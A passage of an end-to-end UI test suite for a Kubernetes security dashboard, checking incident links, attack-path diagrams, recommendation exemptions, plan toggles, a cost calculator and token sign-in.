    expect(await entities.getByRole('link', { name: 'pod build-runner' }).getAttribute('href')).toBe('/alerts?q=build-runner&namespace=payments');
    if (registry) {
      const digest = runningImage.slice(runningImage.indexOf('@') + 1);
      expect(incident!.entities.map((e) => e.kind)).toEqual(expect.arrayContaining(['user', 'pod', 'container', 'image', 'finding']));
      expect(await entities.getByRole('link', { name: /^image / }).first().getAttribute('href')).toBe(`/images?digest=${encodeURIComponent(digest)}`);
    }
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('incident');
    await page.getByRole('link', { name: '← All incidents' }).click();
    const listed = page.getByRole('region', { name: 'Incidents, newest first' }).getByRole('row').filter({ has: page.getByRole('link', { name: incident!.title }) });
    // Who acted, before opening it.
    await listed.getByText('by mallory@example.com').waitFor();
    await shot('incidents');
  });

  it('draws an attack path from the internet to the node as a picture, each edge labelled, linking to the fix', async (context) => {
    if (!registry) context.skip();
    // A posture scan of prod records what is exposed and who may do what.
    await recordClusterGraph(store.db, 'prod', exposedWorkload(runningImage), new Date());
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Attack paths' }).click();
    await page.getByRole('heading', { name: 'Attack paths', exact: true }).waitFor();
    const picture = page.getByRole('img', { name: /^Attack path: internet / }).first();
    await picture.waitFor({ timeout: 15_000 });
    const { items } = (await (await fetch(`${base}/api/v1/attack-paths?cluster=prod`, { headers: bearer(adminToken) })).json()) as { items: Array<{ id: string; title: string; hops: Array<{ id: string; kind: string; name: string }>; edges: Array<{ label: string }>; fix: { hopId: string; text: string; command?: string } }> };
    const path = items.find((p) => p.hops.some((h) => h.name === 'payments/web-1' || h.name.endsWith('web-1')))!;
    expect(path.hops.map((h) => h.kind)).toEqual(['internet', 'service', 'pod', 'image', 'serviceaccount', 'permission', 'node']);
    // Every hop is a box with its name, every edge an arrow with its label.
    const card = page.getByRole('region', { name: path.title });
    const svg = card.getByRole('img', { name: /^Attack path: / });
    expect(await svg.locator('g.hop').count()).toBe(path.hops.length);
    expect(await svg.locator('g.edge').count()).toBe(path.edges.length);
    const labels = await svg.locator('g.edge text').allTextContents();
    expect(labels.join('\n')).toContain('LoadBalancer :443');
    expect(labels.some((l) => /^(CVE|GHSA|DEBIAN|DSA|DLA)-/.test(l))).toBe(true);
    expect(await svg.locator('g.hop.fix').getAttribute('data-hop')).toBe(path.fix.hopId);
    // The cheapest fix, with its command.
    const fix = card.getByRole('note', { name: 'Cheapest fix' });
    await fix.getByText(path.fix.text).waitFor();
    if (path.fix.command) expect(await fix.locator('code').textContent()).toBe(path.fix.command);
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('attack-paths');
    await card.getByRole('link', { name: 'link to this path' }).click();
    await page.getByRole('heading', { name: 'Attack path', exact: true }).waitFor();
    await page.getByRole('img', { name: /^Attack path: internet / }).waitFor();
    await shot('attack-path');
  });

  it('exempts an unhealthy resource from a recommendation with a reason and an expiry, and the score goes up', async () => {
    const score = async () => ((await (await fetch(`${base}/api/v1/score?scope=cluster:prod`, { headers: bearer(adminToken) })).json()) as { current: { percentage: number } }).current.percentage;
    const before = await score();
    await page.getByRole('link', { name: 'Recommendations' }).click();
    const card = page.getByRole('region', { name: 'Containers should not run privileged' });
    await card.waitFor();
    await card.getByText('Unhealthy (2)').waitFor();
    // The expiry starts 30 days out; the reason is typed after tabbing from the resource picker, Enter submits.
    expect(await card.getByLabel('Exempt until').inputValue()).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    await card.getByLabel('Resource to exempt').selectOption({ label: 'pod prod / payments / node-agent' });
    await card.getByLabel('Resource to exempt').focus();
    await page.keyboard.press('Tab');
    await page.keyboard.type('vendor node agent needs privileges; accepted risk');
    await page.keyboard.press('Enter');
    await page.getByText(/Exempted node-agent from “Containers should not run privileged” until/).waitFor();
    await card.getByText('Unhealthy (1)').waitFor();
    await card.getByText('Exempt (1)').waitFor();
    await card.getByText(/vendor node agent needs privileges; accepted risk\. Until .*, by user:secops/).waitFor();
    expect(await score()).toBeGreaterThan(before);
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('recommendations-exempt');
    const [exemption] = ((await (await fetch(`${base}/api/v1/recommendations/exemptions?scope=cluster:prod`, { headers: bearer(adminToken) })).json()) as { items: Array<{ id: string; createdBy: string; resource: string }> }).items;
    expect(exemption).toMatchObject({ createdBy: 'user:secops', resource: 'prod/payments/pod/node-agent' });
    const trail = (await (await fetch(`${base}/api/v1/activity?target=${exemption!.id}`, { headers: bearer(adminToken) })).json()) as { items: Array<{ actor: string; action: string }> };
    expect(trail.items).toEqual([expect.objectContaining({ actor: 'user:secops', action: 'recommendation.exempted' })]);
  });

  it('turns a plan off from environment settings', async () => {
    await page.getByRole('link', { name: 'Environment settings' }).click();
    const toggle = page.getByRole('switch', { name: 'Protection for cluster:prod' });
    await toggle.waitFor();
    expect(await toggle.isChecked()).toBe(true);
    await toggle.click();
    await page.getByText('cluster:prod: plan turned off.').waitFor();
    const plans = (await (await fetch(`${base}/api/v1/plans`, { headers: bearer(adminToken) })).json()) as { items: unknown[] };
    expect(plans.items).toContainEqual(expect.objectContaining({ scope: 'cluster:prod', enabled: false }));
    // Ingest for that cluster is refused with the reason: the agents' and the audit webhook's.
    const agent = await fetch(`${base}/ingest/agent?cluster=prod`, {
      method: 'POST', headers: { ...bearer(adminToken), 'content-type': 'application/json' },
      body: JSON.stringify({ batchId: 'b-1', node: { name: 'node-1', cores: 4 }, heartbeat: { at: new Date().toISOString() }, events: [], alerts: [] }),
    });
    expect(agent.status).toBe(403);
    expect(((await agent.json()) as { code: string }).code).toBe('plan_disabled');
    const audit = await fetch(`${base}/ingest/audit`, {
      method: 'POST', headers: { ...bearer(clusterToken), 'content-type': 'application/json' },
      body: JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items: [] }),
    });
    expect(audit.status).toBe(403);
    expect(((await audit.json()) as { code: string }).code).toBe('plan_disabled');
    await page.getByRole('heading', { name: 'Notification channels' }).waitFor();
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('settings');
  });

  it('reads the costs page and uses the calculator', async () => {
    await page.getByRole('link', { name: 'Costs' }).click();
    await page.getByText(/projected for \d{4}-\d{2}/).waitFor();
    await page.getByText(/These are estimates from list prices/).waitFor();
    // The month in plain words before the tables: the projection and what it pays for.
    await page.getByText(/^If usage stays as it is, protecting your clusters and registries costs about \$[\d,.]+ this month: on average [\d.]+ CPU cores protected around the clock so far, and \d+ image scans?\.$/).waitFor();
    await page.getByLabel('vCores').fill('10');
    await page.getByLabel('Hours running').fill('730');
    await page.getByLabel('Image scans').fill('250');
    await page.getByRole('button', { name: 'Calculate' }).click();
    const result = page.getByRole('region', { name: 'Calculator result' });
    await result.getByText('$83.19').waitFor();
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('costs');
  });

  it('renders the remaining pages, with empty states where nothing is known yet', async () => {
    // What a posture scan of prod records: one container whose runtime reported no manifest digest.
    await replaceRunningImages(store.db, 'prod', [{ namespace: 'shop', pod: 'web-6b7f9c8d5-abcde', container: 'web', image: 'registry.example.com/shop/web:1.4' }], new Date());
    for (const [link, heading, name] of [
      ['Recommendations', 'Recommendations', 'recommendations'], ['Container images', 'Container images', 'images'],
      // Without a registry (in-process mode) there is no attack path: the page says so instead of failing.
      ['Incidents', 'Incidents', 'incidents-list'], ['Attack paths', 'Attack paths', registry ? 'attack-paths-list' : 'attack-paths-empty'],
      // Last: the inventory's clusters are checked below.
      ['Inventory', 'Inventory', 'inventory'],
    ] as const) {
      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: link, exact: true }).click();
      await page.getByRole('heading', { name: heading, exact: true }).waitFor();
      await expect.poll(() => page.locator('[aria-busy="true"]').count()).toBe(0);
      expect(await page.getByRole('alert').count()).toBe(0);
      expect(await unlabelledControls(page)).toEqual([]);
      await shot(name);
    }
    await page.getByRole('cell', { name: 'prod', exact: true }).first().waitFor();
    // The alerts-per-day chart has axes: the largest count, zero, and the first and last days.
    await page.getByRole('link', { name: 'Overview' }).click();
    const perDay = page.getByRole('img', { name: /^New alerts per day: / });
    await perDay.waitFor();
    const labels = await perDay.locator('text').allTextContents();
    expect(labels).toContain('0');
    expect(labels.filter((l) => /^\d+$/.test(l) && l !== '0')).toHaveLength(1);
    expect(labels.filter((l) => /[A-Za-z]/.test(l))).toHaveLength(2);
    expect(await perDay.locator('line').count()).toBe(2);
    await shot('overview-with-alerts');
    await page.getByRole('link', { name: 'Inventory' }).click();
    const inUse = page.getByRole('row').filter({ hasText: 'registry.example.com/shop/web:1.4' });
    await inUse.getByRole('cell', { name: 'no digest reported' }).waitFor();
  });

  it('names a token that signed in by the name it was created with', async () => {
    const named = await createToken(store.db, 'admin', 'release pipeline');
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    try {
      const other = await context.newPage();
      await other.goto(base);
      await other.getByLabel('Admin token', { exact: true }).first().check();
      await other.locator('#signin-token').fill(named.secret);
      await other.getByRole('button', { name: 'Sign in' }).click();
      await other.getByText(`Signed in as token “release pipeline” (${named.id}) (admin)`).waitFor();
      expect(await other.getByText(named.secret).count()).toBe(0);
    } finally {
      await context.close();
    }
  });
});
